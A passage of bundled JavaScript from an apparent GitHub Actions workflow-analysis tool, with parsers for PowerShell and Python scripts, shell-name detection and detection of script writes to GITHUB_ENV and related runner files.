    /** Statements up to and with the closing bracket; `at` is after the opening one. */
    nested(place, closer, into) {
        this.depth++;
        this.statements(place, closer, into);
        this.depth--;
        if (this.at < this.text.length)
            this.at++;
    }
    assignmentAt(at) {
        const char = this.text[at];
        return char === "=" || ("+-*/".includes(char) && this.text[at + 1] === "=");
    }
    /** `$x =`, `$x +=`: what follows is the value. `$x.y =` and `$x[0] =` keep the rest of `$x`. */
    startAssignment(draft) {
        const parts = draft.words[0]?.parts ?? [];
        const variable = parts.find(({ kind }) => kind === "variable");
        if (draft.assignment || draft.isCall || !variable || draft.words.length > 1)
            return false;
        const isWhole = variable === parts.at(-1);
        draft.assignment = { name: variable.name, append: !isWhole || this.text[this.at] !== "=", start: draft.start };
        draft.words = [];
        return true;
    }
    finish(draft, place) {
        const { assignment, words } = draft;
        const isExpression = !draft.isCall && (words.length === 0 || isExpressionWord(words[0]));
        const assignments = assignment
            ? [
                {
                    start: assignment.start,
                    end: draft.end,
                    name: assignment.name,
                    append: assignment.append,
                    values: isExpression ? words : [],
                },
            ]
            : [];
        const command = {
            kind: "command",
            start: draft.start,
            end: Math.max(draft.end, draft.start + 1),
            name: isExpression ? undefined : words[0],
            args: isExpression ? (assignment ? [] : words) : words.slice(1),
            assignments,
            redirects: draft.redirects,
            place,
            pipeline: undefined,
        };
        this.commands.push(command);
        return command;
    }
    redirectAt(offset) {
        pwsh_read_REDIRECT.lastIndex = offset;
        return pwsh_read_REDIRECT.test(this.text);
    }
    redirect(place) {
        const start = this.at;
        pwsh_read_REDIRECT.lastIndex = start;
        const match = pwsh_read_REDIRECT.exec(this.text);
        this.at += match[0].length;
        const descriptor = match[1] === "" ? undefined : match[1];
        if (match[3])
            return { start, end: this.at, operator: ">&", descriptor, target: undefined, heredoc: undefined };
        while (this.at < this.text.length && " \t".includes(this.text[this.at]))
            this.at++;
        const hasTarget = this.at < this.text.length && !"\r\n;|)}".includes(this.text[this.at]);
        const target = hasTarget ? this.word(place, false) : undefined;
        return { start, end: this.at, operator: match[2], descriptor, target, heredoc: undefined };
    }
    /** Reads one word; `isFirst`: an unquoted `=` ends it, since it may be an assignment's target. */
    word(place, isFirst) {
        const { text } = this;
        const start = this.at;
        const parts = [];
        let value = "";
        let valueStart = start;
        const flush = () => {
            if (value !== "")
                appendLiteral(parts, this.source, value, valueStart, this.at, "none");
            value = "";
        };
        while (this.at < text.length) {
            const char = text[this.at];
            const from = this.at;
            if (" \t\r\n;|,)}".includes(char) || (char === "&" && from > start))
                break;
            if (isFirst && parts.length > 0 && this.assignmentAt(from))
                break;
            if (char === ">" && from > start)
                break;
            if (char === "'" || char === '"') {
                flush();
                this.string(parts, char, place);
            }
            else if (char === "@" && (text[from + 1] === '"' || text[from + 1] === "'")) {
                flush();
                this.hereString(parts, text[from + 1], place);
            }
            else if (char === "`" && from + 1 < text.length) {
                if (text[from + 1] === "\n" || text[from + 1] === "\r")
                    break;
                if (value === "")
                    valueStart = from;
                value += text[from + 1];
                this.at += 2;
                continue;
            }
            else if (this.bracketAt(from)) {
                flush();
                this.bracket(parts, "none", place);
            }
            else if (char === "$" && this.variableAt(from)) {
                flush();
                this.variable(parts, "none");
            }
            else if (char === "@" && this.splatAt(from)) {
                flush();
                parts.push({
                    kind: "variable",
                    start: from,
                    end: SPLAT.lastIndex,
                    quoted: "none",
                    name: text.slice(from + 1, SPLAT.lastIndex),
                    operator: "@",
                    operand: [],
                });
                this.at = SPLAT.lastIndex;
            }
            else {
                if (value === "")
                    valueStart = from;
                value += char;
                this.at++;
                continue;
            }
            valueStart = this.at;
        }
        if (this.at === start) {
            value = text[start] ?? "";
            valueStart = start;
            this.at = Math.min(start + 1, text.length);
        }
        flush();
        return new PwshWord(this.source, { start, end: this.at }, parts);
    }
    bracketAt(at) {
        if (this.depth >= pwsh_read_MAX_DEPTH)
            return false;
        const char = this.text[at];
        const next = this.text[at + 1];
        return (char === "(" ||
            char === "{" ||
            ((char === "$" || char === "@") && (next === "(" || (next === "{" && char === "@"))));
    }
    variableAt(at) {
        pwsh_read_VARIABLE.lastIndex = at;
        return pwsh_read_VARIABLE.test(this.text);
    }
    splatAt(at) {
        SPLAT.lastIndex = at;
        return SPLAT.test(this.text);
    }
    variable(parts, quoted) {
        pwsh_read_VARIABLE.lastIndex = this.at;
        const match = pwsh_read_VARIABLE.exec(this.text);
        const start = this.at;
        this.at += match[0].length;
        const name = match[1] ?? match[2];
        // `${${{ x }}}` and the like: the name is what the expression gives.
        const inner = literalParts(this.source, name, start, this.at, quoted).filter((part) => part.kind === "expression");
        parts.push({
            kind: "variable",
            start,
            end: this.at,
            quoted,
            name: withLowerDrive(name),
            operator: undefined,
            operand: inner,
        });
    }
    /** `(…)`, `$(…)`, `@(…)`, `{…}`, `@{…}`: its commands are the script's too. */
    bracket(parts, quoted, place) {
        const start = this.at;
        if (this.text[start] === "$" || this.text[start] === "@")
            this.at++;
        const closer = this.text[this.at] === "{" ? "}" : ")";
        this.at++;
        const commands = [];
        this.nested({ ...place, inSubstitution: true, group: undefined }, closer, commands);
        parts.push({ kind: "substitution", start, end: this.at, quoted, commands });
    }
    string(parts, quote, place) {
        const start = this.at;
        if (quote === "'") {
            let end = start + 1;
            for (;;) {
                end = this.text.indexOf("'", end);
                if (end < 0)
                    end = this.text.length;
                else if (this.text[end + 1] === "'") {
                    end += 2;
                    continue;
                }
                break;
            }
            this.quote(parts, "single", "single", start, start + 1, Math.min(end, this.text.length), Math.min(end + 1, this.text.length));
            return;
        }
        this.at++;
        this.recorder.enter(start, "double");
        this.expandable(parts, "double", place, start, '"');
        this.at = Math.min(this.at + 1, this.text.length);
        this.recorder.enter(this.at, "none");
    }
    /** A text without expansions; `''` is one quote. */
    quote(parts, quoted, quoting, start, bodyStart, bodyEnd, end) {
        this.recorder.enter(start, quoting);
        const body = this.text.slice(bodyStart, bodyEnd);
        const value = quoting === "single" ? body.replaceAll("''", "'") : body;
        if (value === "")
            parts.push({ kind: "literal", start, end, quoted, value });
        else
            appendLiteral(parts, this.source, value, start, end, quoted);
        this.at = end;
        this.recorder.enter(end, "none");
    }
    hereString(parts, quote, place) {
        const start = this.at;
        const { text } = this;
        let newline = start + 2;
        while (newline < text.length && " \t\r".includes(text[newline]))
            newline++;
        if (text[newline] !== "\n") {
            // Not a here-string: `@` is text before a plain string.
            parts.push({ kind: "literal", start, end: start + 1, quoted: "none", value: "@" });
            this.at++;
            return;
        }
        const close = text.indexOf(`\n${quote}@`, newline);
        const bodyEnd = close < 0 ? text.length : Math.max(close, newline + 1);
        const end = close < 0 ? text.length : close + 3;
        if (quote === "'") {
            this.quote(parts, "single", "here-string-single", start, newline + 1, bodyEnd, end);
            return;
        }
        this.recorder.enter(start, "here-string-double");
        this.at = newline + 1;
        this.expandable(parts, "heredoc", place, start, "", bodyEnd);
        this.at = end;
        this.recorder.enter(end, "none");
    }
    /** The inside of a string that expands, up to its closing quote or `limit`. */
    expandable(parts, quoted, place, open, quote, limit = this.text.length) {
        const { text } = this;
        const quoting = quoted === "double" ? "double" : "here-string-double";
        const before = parts.length;
        let value = "";
        let valueStart = open;
        const flush = () => {
            if (value !== "")
                appendLiteral(parts, this.source, value, valueStart, this.at, quoted);
            value = "";
        };
        while (this.at < limit) {
            const char = text[this.at];
            if (char === quote) {
                if (text[this.at + 1] !== quote)
                    break;
                value += quote;
                this.at += 2;
            }
            else if (char === "`" && this.at + 1 < limit) {
                value += read_ESCAPES.get(text[this.at + 1]) ?? text[this.at + 1];
                this.at += 2;
            }
            else if (char === "$" && text[this.at + 1] === "(" && this.depth < pwsh_read_MAX_DEPTH) {
                flush();
                this.recorder.enter(this.at, "none");
                this.bracket(parts, quoted, place);
                this.recorder.enter(this.at, quoting);
                valueStart = this.at;
            }
            else if (char === "$" && this.variableAt(this.at)) {
                flush();
                this.variable(parts, quoted);
                valueStart = this.at;
            }
            else {
                value += char;
                this.at++;
            }
        }
        this.at = Math.min(this.at, text.length);
        flush();
        if (parts.length === before)
            parts.push({ kind: "literal", start: open, end: this.at, quoted, value: "" });
    }
}
const read_ESCAPES = new Map([
    ["n", "\n"],
    ["r", "\r"],
    ["t", "\t"],
    ["0", "\0"],
]);
class PwshWord {
    source;
    parts;
    start;
    end;
    constructor(source, span, parts) {
        this.source = source;
        this.parts = parts;
        this.start = span.start;
        this.end = span.end;
    }
    get text() {
        return this.source.text.slice(this.start, this.end);
    }
    get literal() {
        return literalOf(this.parts);
    }
}
function newDraft(start, isCall) {
    return { start, end: start, words: [], redirects: [], isCall, assignment: undefined };
}
/** At the beginning of a statement, and behind `=`: there `&` and `.` are call operators. */
function expectsValue(draft) {
    if (!draft || draft.isCall)
        return !draft;
    const last = draft.words.at(-1);
    return last ? last.text.endsWith("=") : draft.assignment !== undefined;
}
/** The statement, whose value is what a call gives. */
function asCall(draft, start) {
    return { ...(draft ?? newDraft(start, true)), words: [], isCall: true };
}
/** A statement that begins so is a value, not the name of a command. */
function isExpressionWord(word) {
    return /^(?:[$@"'([{\d]|-\d|\$\{\{)/.test(word.text) && !word.text.startsWith("${{");
}
function read_under(place, condition) {
    return { ...place, conditions: [...place.conditions, condition] };
}
/** `$Env:X` and `$env:X` are the same. */
function withLowerDrive(name) {
    const colon = name.indexOf(":");
    return colon < 0 ? name : name.slice(0, colon).toLowerCase() + name.slice(colon);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/python/lex.js


const PREFIX = /(?:[rRbBuUfFtT]{1,2})?(?="|')/y;
const python_lex_MAX_DEPTH = 50;
/**
 * String literals and comments of a Python script. Never throws.
 *
 * @see The Python Language Reference, 2.4 "Literals" and 2.4.3 "f-strings"
 */
function lexPython(source) {
    return new PythonLexer(source).run();
}
class PythonLexer {
    source;
    text;
    recorder = new RegionRecorder();
    strings = [];
    at = 0;
    depth = 0;
    constructor(source) {
        this.source = source;
        this.text = source.masked;
    }
    run() {
        this.code("none", "");
        this.strings.sort((a, b) => a.start - b.start);
        return { regions: this.recorder.finish(this.text.length), strings: this.strings };
    }
    /** Code up to `end`: the whole text, or the field of an f-string with brackets balanced. */
    code(quoting, closer, outerQuote = "") {
        const { text } = this;
        let open = 0;
        while (this.at < text.length) {
            const char = text[this.at];
            if (closer !== "") {
                if (char === closer && open === 0)
                    return;
                // Before Python 3.12 the quote ends the string even here; an unclosed field shouldn't swallow the script.
                if (char === "\n" && outerQuote.length === 1)
                    return;
                if (char === ":" && open === 0) {
                    this.formatSpec(outerQuote);
                    return;
                }
                if ("([{".includes(char))
                    open++;
                if (")]}".includes(char))
                    open--;
                if (outerQuote !== "" && text.startsWith(outerQuote, this.at))
                    return;
            }
            if (char === "#" && closer === "")
                this.comment();
            else if (char === '"' || char === "'")
                this.string(this.prefixStart(), quoting);
            else
                this.at++;
        }
    }
    formatSpec(outerQuote) {
        const { text } = this;
        while (this.at < text.length) {
            const char = text[this.at];
            if (char === "}" || char === "\n" || text.startsWith(outerQuote, this.at))
                return;
            if (char === "{" && this.depth < python_lex_MAX_DEPTH) {
                this.at++;
                this.depth++;
                this.code("f-string-field", "}", outerQuote);
                this.depth--;
                if (text[this.at] === "}")
                    this.at++;
            }
            else
                this.at++;
        }
    }
    comment() {
        this.recorder.enter(this.at, "comment");
        const end = this.text.indexOf("\n", this.at);
        this.at = end < 0 ? this.text.length : end;
        this.recorder.enter(this.at, "none");
    }
    /** Offset of the letters before the quote at `at`, if they are a prefix. */
    prefixStart() {
        for (const length of [2, 1]) {
            const start = this.at - length;
            if (start < 0 || /\w/.test(this.text[start - 1] ?? " "))
                continue;
            PREFIX.lastIndex = start;
            if (PREFIX.exec(this.text)?.[0].length === length)
                return start;
        }
        return this.at;
    }
    string(start, outer) {
        const { text } = this;
        const prefix = text.slice(start, this.at).toLowerCase();
        const kind = kindOf(prefix);
        const char = text[this.at];
        const quote = text.startsWith(char.repeat(3), this.at) ? char.repeat(3) : char;
        this.recorder.enter(start, kind);
        this.at += quote.length;
        const bodyStart = this.at;
        const isFormat = kind === "f-string" || kind === "raw-f-string";
        let hasFields = false;
        while (this.at < text.length) {
            const next = text[this.at];
            if (next === "\\")
                this.at += 2;
            else if (text.startsWith(quote, this.at))
                break;
            else if (next === "\n" && quote.length === 1)
                break;
            else if (isFormat && next === "{") {
                if (text[this.at + 1] === "{" || this.depth >= python_lex_MAX_DEPTH)
                    this.at += 2;
                else {
                    hasFields = true;
                    this.field(quote, kind);
                }
            }
            else
                this.at++;
        }
        const bodyEnd = Math.min(this.at, text.length);
        this.at = text.startsWith(quote, bodyEnd) ? bodyEnd + quote.length : bodyEnd;
        this.recorder.enter(this.at, outer);
        const isStatic = !hasFields && !holdsExpression(this.source.expressions, start, this.at);
        this.strings.push({
            start,
            end: this.at,
            body: { start: bodyStart, end: bodyEnd },
            kind,
            quote,
            value: isStatic ? lex_decode(text.slice(bodyStart, bodyEnd), kind) : undefined,
        });
    }
    field(quote, kind) {
        this.at++;
        this.recorder.enter(this.at, "f-string-field");
        this.depth++;
        this.code("f-string-field", "}", quote);
        this.depth--;
        this.recorder.enter(this.at, kind);
        if (this.text[this.at] === "}")
            this.at++;
    }
}
function kindOf(prefix) {
    const isRaw = prefix.includes("r");
    if (prefix.includes("b"))
        return isRaw ? "raw-bytes" : "bytes";
    if (prefix.includes("f") || prefix.includes("t"))
        return isRaw ? "raw-f-string" : "f-string";
    return isRaw ? "raw-string" : "string";
}
const lex_ESCAPES = new Map([
    ["n", "\n"],
    ["r", "\r"],
    ["t", "\t"],
    ["\n", ""],
]);
function lex_decode(body, kind) {
    const text = kind === "f-string" || kind === "raw-f-string" ? body.replaceAll("{{", "{").replaceAll("}}", "}") : body;
    if (kind.startsWith("raw") || !text.includes("\\"))
        return text;
    return text.replace(/\\([\s\S])/g, (whole, char) => lex_ESCAPES.get(char) ?? ("\\'\"".includes(char) ? char : whole));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/script.js








const NO_COMMANDS = { commands: [], groups: [], knowsPlaces: false };
/**
 * The text of one `run:` (or of an input that is code), read when asked for. Offsets are UTF-16 offsets into `text`.
 * Nothing here throws, whatever the text.
 */
class Script {
    text;
    shell;
    given;
    #source;
    #parsed;
    #regions;
    #strings;
    constructor(text, shell, given) {
        this.text = text;
        this.shell = shell;
        this.given = given;
    }
    /** The `${{ }}` in order, with their fences. */
    get expressions() {
        return this.source.expressions;
    }
    /** Simple commands in source order, those in substitutions, functions and `bash -c` texts included; none of Python and JavaScript. */
    get commands() {
        return this.parsed.commands;
    }
    /** Compound commands in the order of their beginnings. */
    get groups() {
        return this.parsed.groups;
    }
    /** See `ParsedCommands`. */
    get knowsPlaces() {
        return this.parsed.knowsPlaces;
    }
    /** What isn't plain code: quotes, comments, here-documents. */
    get regions() {
        this.#regions ??= this.readRegions();
        return this.#regions;
    }
    /** String literals of Python and JavaScript, in order of their beginnings; none of the shells. */
    get strings() {
        if (!this.#strings)
            this.readRegions();
        return this.#strings ?? [];
    }
    /** What an offset is inside of; a quote itself counts as inside, the fence of a substitution as outside. */
    quotingAt(offset) {
        return quotingIn(this.regions, offset);
    }
    /** The innermost string literal around an offset; Python and JavaScript only. */
    stringAt(offset) {
        return this.strings.findLast(({ start, end }) => start <= offset && offset < end);
    }
    get source() {
        this.#source ??= scriptSource(this.text, this.given);
        return this.#source;
    }
    get parsed() {
        this.#parsed ??= this.read();
        return this.#parsed;
    }
    read() {
        switch (this.shell) {
            case "bash":
            case "sh":
                return readBash(this.source);
            case "unknown":
                return readWords(this.source);
            case "pwsh":
            case "powershell":
                return this.keepRegions(readPwsh(this.source));
            case "cmd":
                return this.keepRegions(readCmd(this.source));
            default:
                return NO_COMMANDS;
        }
    }
    readRegions() {
        switch (this.shell) {
            case "python":
            case "javascript": {
                const lexed = this.shell === "python" ? lexPython(this.source) : lexJavaScript(this.source);
                this.#strings = lexed.strings;
                this.#regions = lexed.regions;
                return lexed.regions;
            }
            case "bash":
            case "sh":
            case "unknown":
                return scanBash(this.source.masked).regions;
            default:
                // One pass finds both.
                void this.parsed;
                return this.#regions ?? [];
        }
    }
    keepRegions(read) {
        this.#regions = read.regions;
        return read;
    }
}
/**
 * A script that is read when its commands or quotes are asked for.
 *
 * @param text the decoded text, `${{ }}` and all
 * @param expressions the `${{ }}` of the text, ordered; found here when the caller hasn't found them already
 */
function parseScript(text, shell, expressions) {
    return new Script(text, shell, expressions);
}
/** What an offset of the script is inside of; see `Script.quotingAt`. */
function quotingAt(script, offset) {
    return script.quotingAt(offset);
}
/** Does the text hold any of the names, in any case? A look that is cheap enough to come before parsing. */
function mentions(text, names) {
    let lower;
    for (const name of names) {
        if (text.includes(name))
            return true;
        lower ??= text.toLowerCase();
        if (lower.includes(name.toLowerCase()))
            return true;
    }
    return false;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/shell-name.js
const shell_name_SHELLS = new Map([
    ["bash", "bash"],
    ["sh", "sh"],
    ["dash", "sh"],
    ["ash", "sh"],
    ["zsh", "bash"],
    ["ksh", "bash"],
    ["pwsh", "pwsh"],
    ["pwsh-preview", "pwsh"],
    ["powershell", "powershell"],
    ["cmd", "cmd"],
    ["node", "javascript"],
    ["nodejs", "javascript"],
    ["bun", "javascript"],
    ["deno", "javascript"],
]);
const PYTHON = /^(?:python|pypy)[0-9.]*$/;
const shell_name_WRAPPERS = new Set(["env", "sudo", "command", "exec"]);
/**
 * The language of a script from the value of its `shell:` key, which is a name (`bash`) or a command line with `{0}` in
 * the place of the script's file (`/bin/bash -e {0}`, `C:\Program Files\Git\bin\bash.exe {0}`).
 *
 * @see GitHub's workflow syntax, `jobs.<job_id>.steps[*].shell`, "Custom shell"
 */
function shellOf(value) {
    return shell_name_SHELLS.get(value) ?? languageOf(value.trim().toLowerCase());
}
/** Nobody's shell stands behind more words. */
const MAX_WORDS = 20;
function languageOf(line) {
    const words = line.split(/\s+/, MAX_WORDS);
    for (let count = 1; count <= words.length; count++) {
        const program = shell_name_baseName(words.slice(0, count).join(" "));
        const known = shell_name_SHELLS.get(program) ?? (PYTHON.test(program) ? "python" : undefined);
        if (known)
            return known;
        // `/usr/bin/env bash {0}`: look at what follows; a Windows path may hold spaces, so go on until a program ends.
        if (shell_name_WRAPPERS.has(program))
            return languageOf(words.slice(count).filter(isProgram).join(" "));
        if (!isUnfinishedPath(words[0]) || count > 8)
            return "unknown";
    }
    return "unknown";
}
function isProgram(word) {
    return !word.startsWith("-") && !word.includes("=");
}
function isUnfinishedPath(first) {
    return /^["']?[a-z]:[\\/]/.test(first) || first.startsWith('"') || first.startsWith("'");
}
function shell_name_baseName(path) {
    const bare = path.replaceAll(/["']/g, "");
    const cut = Math.max(bare.lastIndexOf("/"), bare.lastIndexOf("\\"));
    return bare.slice(cut + 1).replace(/\.(?:exe|cmd|bat)$/, "");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/embedded-programs.js


/** `python - <<EOF …`, `python -c "…"`, `node -e '…'`, `pwsh -Command '…'` where the text is there word for word. */
function embeddedPrograms(script) {
    const found = [];
    for (const command of script.commands) {
        const shell = embedded_programs_languageOf(command);
        if (!shell)
            continue;
        for (const { heredoc } of command.redirects)
            if (heredoc)
                found.push({ shell, ...heredoc.body });
        const { args } = effectiveCommand(command);
        for (let index = 1; index < args.length; index++) {
            if (!/^-(?:c|e|p|-eval|command|-command)$/i.test(args[index - 1]?.literal ?? ""))
                continue;
            const body = embedded_programs_quotedBody(args[index], script);
            if (body)
                found.push({ shell, ...body });
        }
    }
    return found;
}
function embedded_programs_languageOf(command) {
    const program = effectiveCommand(command).name?.literal;
    if (program === undefined)
        return undefined;
    const shell = shellOf(program);
    return shell === "python" || shell === "javascript" || shell === "pwsh" || shell === "powershell" ? shell : undefined;
}
function embedded_programs_quotedBody({ start, end }, script) {
    const quote = script.text[start];
    const isQuoted = (quote === "'" || quote === '"') && end - start > 1 && script.text[end - 1] === quote;
    return isQuoted ? { start: start + 1, end: end - 1 } : undefined;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/constants.js
/**
 * Variables whose value no event, input or repository file decides: the runner's folders, numbers and names.
 *
 * @see GitHub's reference of default environment variables; names that hold a ref, an actor or a title aren't here
 */
const CONSTANTS = new Set([
    "ANDROID_HOME",
    "APPDATA",
    "BASHPID",
    "CI",
    "EPOCHREALTIME",
    "EPOCHSECONDS",
    "EUID",
    "GITHUB_ACTION_PATH",
    "GITHUB_API_URL",
    "GITHUB_EVENT_NAME",
    "GITHUB_EVENT_PATH",
    "GITHUB_GRAPHQL_URL",
    "GITHUB_JOB",
    "GITHUB_REPOSITORY",
    "GITHUB_REPOSITORY_ID",
    "GITHUB_REPOSITORY_OWNER",
    "GITHUB_REPOSITORY_OWNER_ID",
    "GITHUB_RUN_ATTEMPT",
    "GITHUB_RUN_ID",
    "GITHUB_RUN_NUMBER",
    "GITHUB_SERVER_URL",
    "GITHUB_SHA",
    "GITHUB_WORKFLOW_SHA",
    "GITHUB_WORKSPACE",
    "HOME",
    "HOSTNAME",
    "HOSTTYPE",
    "LINENO",
    "LOCALAPPDATA",
    "MACHTYPE",
    "OLDPWD",
    "OSTYPE",
    "PATH",
    "PROGRAMFILES",
    "PROGRAMFILES(X86)",
    "PWD",
    "RANDOM",
    "RUNNER_ARCH",
    "RUNNER_NAME",
    "RUNNER_OS",
    "RUNNER_TEMP",
    "RUNNER_TOOL_CACHE",
    "RUNNER_WORKSPACE",
    "SECONDS",
    "SHELL",
    "SYSTEMROOT",
    "TEMP",
    "TMP",
    "TMPDIR",
    "UID",
    "USER",
    "USERPROFILE",
]);
/** Numbers of the shell itself. */
const SPECIAL = new Set(["?", "$", "!", "#", "-"]);
/** Is the variable fixed by the runner or the shell? PowerShell's `env:X` is asked for as `env:X`. */
function isConstant(name) {
    const bare = name.startsWith("env:") ? name.slice(4).toUpperCase() : name;
    return CONSTANTS.has(bare) || SPECIAL.has(bare) || /^(?:pwd|home|PSScriptRoot|true|false|null)$/i.test(name);
}
/** Commands that print nothing that others decide, whatever their options: numbers, dates, folders of the runner. */
const CONSTANT_OUTPUT = new Set([
    "arch",
    "date",
    "get-date",
    "get-location",
    "hostname",
    "id",
    "mktemp",
    "new-guid",
    "nproc",
    "pwd",
    "seq",
    "sw_vers",
    "uname",
    "uuidgen",
    "wc",
    "whoami",
]);
/** Commands that print what their arguments say. */
const PRINTS_ARGUMENTS = new Set([
    "basename",
    "command",
    "cygpath",
    "dirname",
    "echo",
    "join-path",
    "printf",
    "realpath",
    "which",
    "write-host",
    "write-output",
]);
/** Commands that print what comes in, changed by nothing but their arguments, if those name no file. */
const FILTERS = new Set([
    "base64",
    "cut",
    "md5sum",
    "rev",
    "sha1sum",
    "sha256sum",
    "sort",
    "tac",
    "tr",
    "uniq",
    "xxd",
]);
/** Commands that print nothing to standard output, or nothing that matters. */
const SILENT = new Set([
    ":",
    "((",
    "[",
    "[[",
    "break",
    "cd",
    "chmod",
    "continue",
    "declare",
    "exit",
    "export",
    "false",
    "let",
    "local",
    "mkdir",
    "readonly",
    "return",
    "rm",
    "set",
    "setlocal",
    "shift",
    "shopt",
    "sleep",
    "test",
    "touch",
    "trap",
    "true",
    "unset",
    "wait",
]);

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/program-writes.js


/** More are found in no program that a person wrote; each costs a look at the whole. */
const MAX_REFERENCES = 40;
const MAX_USES = 40;
const MAX_CALLS = 400;
/** No statement of a person is longer. */
const MAX_STATEMENT = 20_000;
/** Writes by a Python script: `open(os.environ["GITHUB_ENV"], "a")`, `Path(os.getenv("GITHUB_ENV")).write_text(…)`. */
function pythonWrites(script, names) {
    const code = blankStrings(script);
    const writes = [];
    const dynamic = dynamicPythonContent(script, code);
    for (const reference of pythonReferences(script, code, names).slice(0, MAX_REFERENCES)) {
        const before = code.slice(0, reference.start);
        const alias = /(?:^|\n)[ \t]*([A-Za-z_]\w*)[ \t]*(?::[^=\n]*)?=[ \t]*$/.exec(before.slice(-200))?.[1];
        const places = alias === undefined ? [reference] : usesOf(code, alias, reference);
        for (const place of places) {
            if (!isWrittenInPython(script, code, place))
                continue;
            writes.push(program_writes_made(script, code, { ...place, file: reference.file }, dynamic));
        }
    }
    return writes;
}
/** Writes by JavaScript: `fs.appendFileSync(process.env.GITHUB_ENV, "…")`, `core.exportVariable("A", "…")`. */
function javascriptWrites(script, names) {
    const code = blankStrings(script);
    const writes = toolkitWrites(script, code, names);
    for (const reference of javascriptReferences(script, code, names).slice(0, MAX_REFERENCES)) {
        const before = code.slice(Math.max(0, reference.start - 200), reference.start);
        const alias = /\b(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*$/.exec(before)?.[1];
        const places = alias === undefined ? [reference] : usesOf(code, alias, reference);
        for (const place of places) {
            if (!/\b(?:appendFile|writeFile|createWriteStream|outputFile)(?:Sync)?\s*\(\s*$/.test(code.slice(Math.max(0, place.start - 60), place.start))) {
                continue;
            }
            const end = closingBracket(code, place.end);
            const content = { start: place.end, end };
            const isFixed = code[place.end] === "," && isFixedText(script, code, content);
            writes.push(program_writes_made(script, code, { ...place, file: reference.file }, isFixed ? undefined : content));
        }
    }
    return writes;
}
/** Functions of @actions/core that write to one of the files. */
const TOOLKIT = new Map([
    ["exportVariable", "GITHUB_ENV"],
    ["addPath", "GITHUB_PATH"],
    ["setOutput", "GITHUB_OUTPUT"],
    ["saveState", "GITHUB_STATE"],
]);
/** @see actions/toolkit, packages/core/src/core.ts */
function toolkitWrites(script, code, names) {
    const writes = [];
    for (const match of code.matchAll(/\bcore\s*\.\s*(\w{1,20})\s*\(/g)) {
        const file = TOOLKIT.get(match[1]);
        if (file === undefined || !names.includes(file))
            continue;
        const end = match.index + match[0].length;
        const content = { start: end, end: closingBracket(code, end) };
        const reference = { file, start: match.index, end: end - 1 };
        writes.push(program_writes_made(script, code, reference, isFixedText(script, code, content) ? undefined : content));
        if (writes.length === MAX_REFERENCES)
            break;
    }
    return writes;
}
/** The code with strings, comments and expressions replaced by blanks: what a pattern may look at. */
function blankStrings(script) {
    let code = "";
    let at = 0;
    for (const { start, end, quoting } of script.regions) {
        if (quoting === "f-string-field" || quoting === "template-expression")
            continue;
        code += script.text.slice(at, start) + script.text.slice(start, end).replace(/[^\n]/g, " ");
        at = end;
    }
    return code + script.text.slice(at);
}
function pythonReferences(script, code, names) {
    const found = [];
    for (const string of script.strings) {
        if (string.value === undefined || !names.includes(string.value))
            continue;
        const opening = /(?:os\.)?(?:environ(?:\.get)?\s*[[(]|getenv\s*\()\s*$/.exec(code.slice(Math.max(0, string.start - 60), string.start));
        if (!opening)
            continue;
        const closing = code.slice(string.end, string.end + 200).search(/[\])]/);
        const end = closing < 0 ? string.end : string.end + closing + 1;
        found.push({ file: string.value, start: string.start - opening[0].length, end });
    }
    return found;
}
function javascriptReferences(script, code, names) {
    const found = [];
    for (const match of code.matchAll(/\bprocess\.env\.([A-Z_]{1,40})\b/g)) {
        const file = match[1];
        if (names.includes(file))
            found.push({ file, start: match.index, end: match.index + match[0].length });
    }
    for (const string of script.strings) {
        if (string.value === undefined || !names.includes(string.value))
            continue;
        const opening = /\bprocess\.env\s*\[\s*$/.exec(code.slice(Math.max(0, string.start - 40), string.start));
        if (opening)
            found.push({
                file: string.value,
                start: string.start - opening[0].length,
                end: code.indexOf("]", string.end) + 1 || string.end,
            });
    }
    return found.sort((a, b) => a.start - b.start);
}
/** Where a variable that holds the path is used after it was set. */
function usesOf(code, name, after) {
    const uses = [];
    const escaped = name.replaceAll("$", "\\$");
    for (const match of code.matchAll(new RegExp(`(?<![\\w$.])${escaped}(?![\\w$])`, "g"))) {
        if (match.index > after.end)
            uses.push({ start: match.index, end: match.index + name.length });
        if (uses.length === MAX_USES)
            break;
    }
    return uses;
}
function isWrittenInPython(script, code, { start, end }) {
    const before = code.slice(Math.max(0, start - 60), start);
    if (/\bopen\s*\(\s*(?:file\s*=\s*)?$/.test(before))
        return isWriteMode(script, code, end);
    if (!/\bPath\s*\(\s*$/.test(before))
        return false;
    const after = /^\s*\)\s*\.\s*(write_text|write_bytes|open)\s*\(/.exec(code.slice(end, end + 100));
    return after !== null && (after[1] !== "open" || isWriteMode(script, code, end + after[0].length));
}
/** Does the next string up to the closing bracket say that the file is opened to write? */
function isWriteMode(script, code, from) {
    const limit = closingBracket(code, from);
    const mode = script.strings.find(({ start }) => start >= from && start < limit);
    return mode?.value !== undefined && /[wax+]/.test(mode.value);
}
function dynamicPythonContent(script, code) {
    let calls = 0;
    let looked = 0;
    for (const match of code.matchAll(/\.(?:write|writelines|write_text)\s*\(|\bprint\s*\(/g)) {
        if (++looked > MAX_CALLS)
            return { start: 0, end: script.text.length };
        const start = match.index + match[0].length;
        const content = { start, end: closingBracket(code, start) };
        const isPrint = match[0].startsWith("print");
        if (isPrint && !/\bfile\s*=/.test(code.slice(content.start, content.end)))
            continue;
        calls++;
        if (!isFixedText(script, code, content))
            return content;
    }
    return calls === 0 ? { start: 0, end: script.text.length } : undefined;
}
/** Numbers, and what the runner alone decides. */
const FIXED_VALUES = /\b(?:\d[\w.]*|[Tt]rue|[Ff]alse|null|undefined|None|path\.(?:join|resolve)|os\.(?:homedir|tmpdir)|process\.cwd|context\.(?:apiUrl|eventName|graphqlUrl|job|runId|runNumber|serverUrl|sha)|context\.repo\.(?:owner|repo)|process\.env\.([A-Z_]{1,40}))\b(?![.\w])/g;
/** Only literals without anything expanded into them, and values that are as fixed? */
function isFixedText(script, code, { start, end }) {
    if (holdsExpression(script.expressions, start, end))
        return false;
    if (script.strings.some((string) => string.start >= start && string.end <= end && string.value === undefined))
        return false;
    const rest = code
        .slice(start, end)
        .replace(/\bfile\s*=\s*\w+/, "")
